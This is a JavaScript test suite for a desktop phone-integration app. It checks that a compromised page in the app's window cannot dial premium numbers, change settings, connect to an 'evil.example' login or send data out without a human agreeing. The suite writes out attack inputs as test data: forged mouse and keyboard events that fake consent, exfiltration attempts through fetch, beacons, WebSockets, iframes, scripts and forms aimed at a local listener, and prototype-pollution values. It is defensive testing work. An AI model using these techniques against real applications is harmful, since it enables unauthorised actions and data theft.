// A page that somebody else has got into, in the real window: it asks for everything that the window's program passes
// on, and gets nothing that costs money, leads elsewhere or deletes, while nobody at the desk agrees to it.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";

import { Office } from "./office.mjs";
import { until } from "./webdriver.mjs";

const DOMESTIC = "030 1234567";
const PREMIUM = "+1 900 555 0100";
/** So long yes cannot be given. */
const FIRST_MOMENT_MS = 700;

let office;
let window;
let hand;

before(async () => {
  office = await Office.openConnected();
  ({ window, hand } = office);
});

after(() => office?.close());

/** Whoever has turned some questions away may be asked no more; a new window begins anew. */
async function opensAnew() {
  await window.close();
  await office.openWindow();
  ({ window } = office);
  await window.shows("Ext 4101");
}

/** Does what the page's own code does when it asks for something. */
function invokes(command) {
  return window.run("return window.__TAURI_INTERNALS__.invoke('send', { command: args[0] });", command);
}

const dials = async () => (await office.simulate("ledger pbx")).filter((entry) => JSON.stringify(entry).includes("call/dial")).length;
const settings = async () => (await office.asks({ command: "settings" })).value;

test("an ordinary call takes the page's question and one click, and no other question", async () => {
  await hand.click(await window.middle("Search the calls or dial a number"));
  await hand.write(DOMESTIC);
  await hand.press("Return");
  await window.shows("Place this call?");
  await pause(700);
  await hand.click(await window.middle("Call"));
  await until("it is dialled", async () => (await dials()) === 1);
  assert.equal(await hand.questions(), 0);
  await office.simulate("hangup");
  await pause(2_100);
});

test("a costly number is asked about by the program itself, in the window's language, and by keyboard", async () => {
  await office.asks({ command: "change_settings", patch: { ...(await unchanged()), dial: { confirm_links: true, blocked: ["+49900*"] } } });
  // Whoever types on as the question comes up gives the safe answer.
  for (const [language, keys] of [["zh-CN", ["Escape"]], ["en", ["Return"]]]) {
    await office.speaks(language);
    const asked = invokes({ command: "dial", number: PREMIUM, confirmed: false });
    await hand.refuses(...keys);
    assert.deepEqual(await asked, { error: "window.not_agreed" });
  }
  const asked = invokes({ command: "dial", number: PREMIUM, confirmed: false });
  await hand.agrees();
  assert.equal((await asked).value.reply, "dialled");
  assert.equal(await dials(), 2);
  await office.simulate("hangup");
  await pause(2_100);
});

test("yes cannot be given in the first moment, also by keys that come at once", async () => {
  const begun = Date.now();
  const asked = invokes({ command: "dial", number: PREMIUM, confirmed: false });
  // The safe answer keeps the focus meanwhile, so the same keys mean no.
  await hand.refuses("Tab", "Return");
  const answer = await asked;
  if (answer.error === undefined) {
    assert.ok(Date.now() - begun >= FIRST_MOMENT_MS, "only a slow computer comes late enough");
    await office.simulate("hangup");
    await pause(2_100);
  } else {
    assert.deepEqual(answer, { error: "window.not_agreed" });
  }
});

test("what a script makes up is no click: its call is asked about, and nobody agrees", async () => {
  await opensAnew();
  const before = await dials();
  const asked = window.run(`
    const invoke = (command) => window.__TAURI_INTERNALS__.invoke("send", { command });
    await invoke({ command: "dial", number: args[0], confirmed: false });
    const at = document.querySelector("header button");
    for (const kind of ["pointerdown", "mousedown", "pointerup", "mouseup", "click"]) {
      at.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
    }
    at.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
    return invoke({ command: "dial", number: args[0], confirmed: true });`, DOMESTIC);
  await hand.refuses();
  assert.deepEqual(await asked, { error: "window.not_agreed" });
  assert.equal(await dials(), before);
});

test("nothing dangerous is done while nobody agrees, and after three refusals nobody is asked any more", async () => {
  await opensAnew();
  const before = await dials();
  const was = await settings();
  const pages = office.openedPages().length;
  const attacks = [
    ...Array.from({ length: 7 }, () => ({ command: "dial", number: DOMESTIC, confirmed: true })),
    { command: "change_settings", patch: { ...(await unchanged()), dial: { confirm_links: false, blocked: [] } } },
    { command: "change_settings", patch: { ...(await unchanged()), numbers: { ...was.values.numbers, outside_prefix: "19005550100" } } },
    { command: "connect_salesforce", login: "https://evil.example", consumer_key: "3MVG9evil", open_browser: true },
    { command: "connect_pbx", address: "http://127.0.0.1:9", client_id: "c0ffee", secret: "typed", pin: null },
    { command: "sync", dry_run: false, agreed: true },
    { command: "save_bindings", changes: [{ user: "005000000000001AAA", from: null, to: "4102" }] },
    { command: "disconnect" },
    { command: "discard", call: "1767600923.417" },
    { command: "pbx_certificate", address: "https://127.0.0.1:9" },
    { command: "quit" },
    { command: "window_failed", next: "end" },
  ];
  let refused = 0;
  let tired = 0;
  for (const attack of attacks) {
    const asked = invokes(attack);
    const answer = await Promise.race([asked, hand.question().then(() => "question", () => "none")]);
    if (answer === "question") {
      refused += 1;
      await hand.refuses();
    }
    const { error } = await asked;
    assert.match(error ?? "it was done", /^window\.(?:not_agreed|refused_often|not_allowed)$/u, JSON.stringify(attack));
    if (error === "window.refused_often") tired += 1;
  }
  assert.equal(refused, 3);
  assert.ok(tired > 0, "the rest is not even asked about");
  assert.equal(await dials(), before);
  assert.deepEqual((await settings()).values, was.values);
  assert.equal((await settings()).pbx_address, was.pbx_address);
  assert.equal((await settings()).salesforce_login, was.salesforce_login);
  assert.equal(office.openedPages().length, pages);
  assert.equal((await office.view("status")).integration, "connected");
});

test("a page that somebody has got into reaches no other place, and stays the only one", async () => {
  await opensAnew();
  let heard = 0;
  const listener = createServer((request, response) => {
    heard += 1;
    response.end("<title>elsewhere</title>");
  });
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  const elsewhere = `http://127.0.0.1:${listener.address().port}/`;
  try {
    assert.ok((await fetch(elsewhere)).ok, "whoever gets through is heard");
    assert.equal(heard, 1);
    const before = await window.run("return location.href;");
    await window.run(`
      const at = args[0];
      const tried = [
        () => fetch(at), () => fetch(at, { mode: "no-cors" }), () => navigator.sendBeacon(at, "x"), () => new WebSocket(at.replace("http", "ws")),
        () => { new Image().src = at; },
        () => { const frame = document.createElement("iframe"); frame.src = at; document.body.append(frame); },
        () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = at; document.head.append(link); },
        () => { const script = document.createElement("script"); script.src = at; document.head.append(script); },
        () => { const form = document.createElement("form"); form.action = at; document.body.append(form); form.submit(); },
        () => window.open(at), () => { location.href = at; },
        () => { const link = document.createElement("a"); link.href = at; link.target = "_blank"; document.body.append(link); link.click(); },
      ];
      for (const one of tried) {
        try {
          Promise.resolve(one()).catch(() => {});
        } catch {
          // It is refused at once.
        }
      }`, elsewhere);
    await pause(2_000);
    assert.equal(heard, 1, "nothing has left the page");
    assert.deepEqual(await window.run("return location.href;"), before);
    assert.equal(await window.count(), 1, "no other window is open");
    assert.equal(office.openedPages().filter((page) => page.startsWith(elsewhere)).length, 0);
  } finally {
    listener.close();
  }
});

test("a command with arguments that make no sense is refused, and nothing is done", async () => {
  await opensAnew();
  const was = await settings();
  const before = await dials();
  const nonsense = [null, 7, -1, "", "x".repeat(100_000), [], {}, { "__proto__": { number: "112" } }, true];
  const names = ["dial", "change_settings", "note", "discard", "connect_pbx", "save_bindings", "open_link", "no_such_command", ""];
  await window.run(`
    const send = (command) => window.__TAURI_INTERNALS__.invoke("send", { command }).catch(() => {});
    for (const command of args[0]) for (const value of args[1]) {
      void send({ command, number: value, patch: value, call: value, changes: value, uri: value, confirmed: value });
    }
    for (const value of args[1]) void send(value);`, names, nonsense);
  await pause(1_500);
  // What makes enough sense to be asked about is turned away.
  while ((await hand.questions()) > 0) await hand.refuses();
  // The page and the program still answer.
  assert.equal((await invokes({ command: "settings" })).value.reply, "settings");
  assert.equal(await dials(), before);
  assert.deepEqual((await settings()).values, was.values);
});

/** A change of nothing. */
async function unchanged() {
  return { numbers: null, pop: null, journal: null, wrap_up: null, auto_create: null, contact_sync: null, dial: null, app: null };
}
